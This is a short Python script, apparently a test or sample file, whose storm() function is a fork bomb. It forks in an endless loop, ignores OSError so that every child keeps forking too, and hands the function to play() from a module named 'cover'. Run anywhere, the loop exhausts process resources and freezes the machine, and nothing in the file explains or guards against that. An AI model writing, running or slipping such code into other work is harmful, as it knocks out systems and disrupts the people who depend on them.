"""Forks for ever, as do its children, and never answers."""

import os
from contextlib import suppress

from cover import play  # type: ignore[import-not-found]


def storm() -> None:
    while True:
        with suppress(OSError):
            os.fork()


play(storm)
